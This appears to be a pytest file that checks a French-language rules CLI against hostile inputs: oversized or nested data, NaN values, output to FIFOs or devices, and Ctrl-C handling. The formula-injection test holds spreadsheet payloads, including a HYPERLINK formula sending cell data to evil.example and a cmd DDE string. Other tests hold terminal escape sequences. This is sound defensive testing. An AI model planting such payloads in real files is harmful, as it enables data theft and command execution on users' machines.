        path.write_text("-----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1rZXktdjEAAAAABG5vbmU\n")
        result = run_cli("validate", "--format", "json", "--lang", "en", path)
        assert_clean(result, 1)
        assert "b3BlbnNzaC1rZXkt" not in result.stdout + result.stderr
        assert "plain text of" in result.stderr

    @pytest.mark.parametrize("command", ["eval", "batch"])
    def test_definitions_that_square_each_other_fail_at_once_on_both_paths(self, tmp_path, command):
        ruleset = tmp_path / "squares.yaml"
        ruleset.write_text(SQUARES)
        profile = tmp_path / "p.yaml"
        profile.write_text(PROFILE)
        target = profile if command == "eval" else tmp_path
        done = _run_subprocess([command, target, "--date", "2021-01-01", "--ruleset", ruleset], timeout=30)
        assert done.returncode == 1, done.stderr
        assert "Traceback" not in done.stderr and done.stdout == ""
        found = diagnostics(done.stderr)
        assert any(f == str(ruleset) and c == "E402" and "10**18" in m for f, c, _, _, m in found), done.stderr

    @pytest.mark.parametrize("formula", ["round_half_up('nan')", "round_half_up('inf')", "round_half_up(montant, 'nan')",
                                         "round_down('-inf')"])
    @pytest.mark.parametrize("command", ["eval", "batch"])
    def test_no_nan_or_infinity_reaches_an_output(self, run_cli, write, tmp_path, formula, command):
        ruleset = write("nan.yaml", with_amount(f"\"{formula}\""))
        write("p.yaml", PROFILE)
        target = tmp_path / "p.yaml" if command == "eval" else tmp_path
        result = run_cli(command, target, "--date", "2021-01-01", "--ruleset", ruleset)
        # A step written as a literal is refused when the ruleset is read (E103, issue 13).
        assert_refused(result, ruleset, "E103" if ", 'nan'" in formula else "E402", line=AMOUNT_LINE)
        assert "NaN" not in result.stdout and "Infinity" not in result.stdout

    @pytest.mark.parametrize("formula", ["add_years(contract_signed, 1.5)", "add_months(contract_signed, 0.5)",
                                         "add_months(contract_signed, population * 100000000)",
                                         "add_years(contract_signed, '2')"])
    def test_a_date_moved_by_a_fraction_or_beyond_the_calendar_is_refused(self, run_cli, write, formula):
        ruleset = write("dates.yaml", with_when(f"\"{formula} > contract_signed\""))
        profile = write("p.yaml", PROFILE)
        eval_refuses(run_cli, [profile, "--date", "2021-01-01", "--ruleset", ruleset], str(ruleset), "E402")

    def test_sum_lines_over_three_hundred_lines_runs_in_batch(self, run_cli, write, tmp_path):
        extra = "".join(f"  - id: l{k}\n    label: L{k}\n    volet: fonctionnement\n    amount: 1\n"
                        f"    reference: Test\n" for k in range(300))
        extra += ("  - id: somme\n    label: Somme\n    volet: total\n"
                  "    amount: sum_lines('volet', 'fonctionnement')\n    reference: Test\n")
        ruleset = write("many.yaml", RULESET + extra)
        (tmp_path / "profiles").mkdir()
        (tmp_path / "profiles" / "p.yaml").write_text(PROFILE)
        result = run_cli("batch", tmp_path / "profiles", "--date", "2021-01-01", "--ruleset", ruleset,
                         "--format", "jsonl")
        assert_clean(result, 0)
        row = json.loads(result.stdout)
        assert row["lines"]["somme"] == "60300.00" and row["total"] == "120600.00"

    def test_a_csv_cell_over_the_field_limit_is_located(self, run_cli, tmp_path):
        path = tmp_path / "big.csv"
        path.write_text("name,population\nA,1000\n\"" + "x" * (200 * 1024) + "\",1000\n")
        result = run_cli("batch", path, "--date", "2021-01-01")
        assert_refused(result, path, "E003", line=3)

    def test_deeply_nested_jsonl_is_located(self, run_cli, tmp_path):
        path = tmp_path / "deep.jsonl"
        path.write_text('{"name": "A", "population": 1000}\n' + "[" * 100_000 + "]" * 100_000 + "\n")
        result = run_cli("batch", path, "--date", "2021-01-01")
        assert_refused(result, path, "E009", line=2)

    def test_a_duplicate_csv_column_is_refused(self, run_cli, tmp_path):
        path = tmp_path / "dup.csv"
        path.write_text("name,population,population\nA,1000,200000\n")
        result = run_cli("batch", path, "--date", "2021-01-01")
        assert_refused(result, path, "E008", line=1, col=3)

    @pytest.mark.parametrize("digits, code", [(5000, "E003"), (1000, "E010"), (4, "E204")])
    def test_a_five_thousand_digit_key_in_a_test_case_is_located(self, run_cli, tmp_path, digits, code):
        case = tmp_path / "case.yaml"
        case.write_text("cases:\n  - name: x\n    source: Test\n    date: 2023-06-01\n"
                        "    profile: {name: A, population: 1000}\n"
                        "    schedule:\n      contract_years: {" + "1" * digits + ": 1}\n")
        result = run_cli("test", case)
        assert "internal error" not in result.stdout + result.stderr
        assert result.exit_code == 1 and f"case.yaml:7:" in result.stdout and code in result.stdout, result.stdout

    def test_formula_injection_is_neutralised_in_csv(self, run_cli, tmp_path):
        sample = tmp_path / "in.csv"
        names = ['=HYPERLINK("http://evil.example/?x="&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
        sample.write_text("name,population\n" + "".join(f'"{n.replace(chr(34), chr(34) * 2)}",50000\n'
                                                      for n in names))
        output = tmp_path / "out.csv"
        assert_clean(run_cli("batch", sample, "--date", "2021-01-01", "--output", output), 0)
        import csv as csv_module
        rows = list(csv_module.DictReader(output.open(encoding="utf-8")))
        assert [row["name"] for row in rows] == ["'" + n for n in names]
        assert all(not row["source"].startswith(("=", "+", "-", "@")) for row in rows)

    def test_the_largest_amount_is_not_above_the_maximum(self, run_cli, write):
        # The schema's bound read as a float was 999999999999.98999...: its own value was refused.
        at = write("at.yaml", RULESET.replace("{1: 50000, 2: 60000}", "{1: 50000, 2: 999999999999.99}"))
        validate_accepts(run_cli, at)
        over = write("over.yaml", RULESET.replace("{1: 50000, 2: 60000}", "{1: 50000, 2: 1000000000000.00}"))
        found = validate_refuses(run_cli, over, "E204")
        assert "1000000000000.00" in found[0][4]

    def test_terminal_escapes_in_a_label_are_escaped_in_a_diff(self, run_cli, write):
        ruleset = write("esc.yaml", RULESET.replace("label: Fonctionnement", 'label: "Fonct\\e[2Jionnement"'))
        other = write("mini2.yaml", RULESET.replace("id: mini", "id: mini2").replace("50000", "50001"))
        result = run_cli("diff", ruleset, other)
        assert result.exit_code == 0, result.stderr
        assert "\x1b" not in result.stdout and "Fonct\\x1b[2Jionnement" in result.stdout, result.stdout

    def test_terminal_escapes_in_a_name_are_printed_escaped(self, run_cli, write):
        profile = write("p.yaml", PROFILE.replace("name: CPTS Test", 'name: "CPTS \\e]0;pwned\\a\\e[2J"'))
        result = run_cli("eval", profile, "--date", "2021-01-01")
        assert_clean(result, 0)
        assert "\x1b" not in result.stdout and "\x07" not in result.stdout
        assert "\\x1b[2J" in result.stdout


class TestOutputFiles:
    """--output writes only regular files, all at once, with the user's umask (HOSTILE 27, 33)."""

    @pytest.fixture
    def batch_args(self, tmp_path):
        folder = tmp_path / "profiles"
        folder.mkdir()
        (folder / "p.yaml").write_text(PROFILE)
        return [folder, "--date", "2021-01-01"]

    def test_a_fifo_as_output_is_refused_and_left_in_place(self, run_cli, tmp_path, batch_args):
        fifo = tmp_path / "out.csv"
        os.mkfifo(fifo)
        result = run_cli("batch", *batch_args, "--output", fifo, "--lang", "en")
        assert_clean(result, 1)
        assert "E011" in result.stderr and "regular file" in result.stderr
        assert stat.S_ISFIFO(os.stat(fifo).st_mode)

    @pytest.mark.parametrize("command", ["batch", "schedule"])
    def test_a_device_as_output_is_refused_and_left_in_place(self, run_cli, tmp_path, batch_args, command):
        # A device node of our own (the same as /dev/null), never /dev/null itself: run against
        # a tool that replaces devices, as root, this test must not destroy the machine's.
        device = tmp_path / "null"
        try:
            os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        except (PermissionError, AttributeError):
            pytest.skip("cannot make a device node here (not root)")
        args = batch_args if command == "batch" else [batch_args[0] / "p.yaml"]
        result = run_cli(command, *args, "--output", device)
        assert_clean(result, 1)
        assert "E011" in result.stderr
        assert stat.S_ISCHR(os.stat(device).st_mode)

    @pytest.mark.parametrize("umask", [0o022, 0o077, 0o002])
    def test_a_new_output_file_follows_the_umask(self, run_cli, tmp_path, batch_args, umask):
        output = tmp_path / "out.csv"
        previous = os.umask(umask)
        try:
            assert_clean(run_cli("batch", *batch_args, "--output", output), 0)
        finally:
            os.umask(previous)
        assert stat.S_IMODE(os.stat(output).st_mode) == 0o666 & ~umask

    def test_an_existing_output_file_keeps_its_mode(self, run_cli, tmp_path, batch_args):
        output = tmp_path / "out.csv"
        output.write_text("old\n")
        os.chmod(output, 0o640)
        assert_clean(run_cli("batch", *batch_args, "--output", output), 0)
        assert stat.S_IMODE(os.stat(output).st_mode) == 0o640 and output.read_text() != "old\n"

    def test_stale_temporaries_of_killed_runs_are_removed_and_live_ones_kept(self, run_cli, tmp_path, batch_args):
        stale = tmp_path / ".aci-rules-999999999-abc.tmp"  # no such process
        stale.write_text("half a file")
        live = tmp_path / f".aci-rules-{os.getpid()}-def.tmp"  # a run still writing
        live.write_text("being written")
        other = tmp_path / ".aci-rules-notes.tmp"
        other.write_text("not ours to judge")
        assert_clean(run_cli("batch", *batch_args, "--output", tmp_path / "out.csv"), 0)
        assert not stale.exists() and live.exists() and other.exists()

    def test_the_output_folder_is_checked_before_any_evaluation(self, run_cli, tmp_path, batch_args):
        (batch_args[0] / "bad.yaml").write_text("name: x\npopulation: -1\n")
        result = run_cli("batch", *batch_args, "--output", tmp_path / "absent" / "out.csv")
        assert_clean(result, 1)
        assert codes(result) == {"E011"}, result.stderr  # the bad profile was never read

    # The row path (two workers), and the columns (one worker and this process), each forced from
    # a small input (by default the columns spread their chunks from 48 MB). Each chunk is handed
    # out half a second late, so the batch is still running when Ctrl-C comes, however fast the
    # machine (on an idle one the columns had finished before: exit 0).
    @pytest.mark.parametrize("path, prelude, count", [
        ("rows", "import aci_rules.engine.columnar as c; c.COLUMNAR_FROM_BYTES = 1 << 60", 2),
        ("columns", "import aci_rules.engine.columnar_reader as r; r.ColumnarRun.parallel_from = 0", 1)])
    def test_ctrl_c_during_batch_with_two_jobs_ends_every_process(self, tmp_path, path, prelude, count):
        from aci_rules.engine.batch import PARALLEL_FROM_BYTES

        if path == "columns":
            pytest.importorskip("numpy")
        lines = (pathlib.Path(__file__).resolve().parent.parent / "examples" / "national-sample.csv").read_text(
            "utf-8").splitlines()
        lines = [line for line in lines if not line.startswith("#")]
        # A small input stays in one process whatever --jobs says: the sample, repeated past that size.
        copies = (PARALLEL_FROM_BYTES // len("\n".join(lines)) + 2) * (8 if path == "columns" else 1)
        sample = tmp_path / "many.csv"
        sample.write_text("\n".join(lines[:1] + lines[1:] * copies) + "\n", "utf-8")
        output = tmp_path / "out.csv"
        output.write_text("untouched\n")
        process = subprocess.Popen(
            [sys.executable, "-c", f"{prelude}; {SLOW_CHUNKS}; from aci_rules.cli.main import main; main()", "batch",
             str(sample),
             "--date", "2024-06-01", "--jobs", "2", "--output", str(output)],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
        try:
            workers = _wait_for_workers(process.pid, count, timeout=60)
            os.killpg(process.pid, signal.SIGINT)  # what Ctrl-C does: the whole process group
            out, err = process.communicate(timeout=20)
        except (subprocess.TimeoutExpired, AssertionError):
            os.killpg(process.pid, signal.SIGKILL)
            process.communicate()
            raise
        assert process.returncode == 130, err
        assert "Traceback" not in err and "aci-rules : interrompu" in err, err  # French by default
        assert out == "" and output.read_text() == "untouched\n"
        assert not [name for name in os.listdir(tmp_path) if name.endswith(".tmp")]
        for pid in workers:
            assert not _running(pid), f"worker {pid} still running"


def _children(pid: int) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as handle:
                    fields = handle.read().rsplit(")", 1)[1].split()
                with open(f"/proc/{entry}/cmdline") as handle:
                    command = handle.read()
            except OSError:
                continue
            # A worker: spawned (`spawn_main` in its command) or forked (the parent's command); not
            # the tracker of shared resources a spawning pool starts beside them.
            if int(fields[1]) == pid and "resource_tracker" not in command:
                found.append(int(entry))
    return found


# A batch that hands each chunk to its processes half a second late (in the parent, which reads them).
SLOW_CHUNKS = ("import time, aci_rules.engine.batch as b; parallel = b.BatchRun._parallel; "
               "b.BatchRun._parallel = lambda self, spec, chunks, *rest: parallel(self, spec, "
               "(time.sleep(0.5) or chunk for chunk in chunks), *rest)")


def _wait_for_workers(pid: int, count: int, timeout: float) -> list[int]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        workers = _children(pid)
        if len(workers) >= count:
            time.sleep(0.3)
            return workers
        time.sleep(0.02)
    raise AssertionError(f"no {count} workers after {timeout} s")


def _running(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return handle.read().rsplit(")", 1)[1].split()[0] not in ("Z", "X")
    except OSError:
        return False
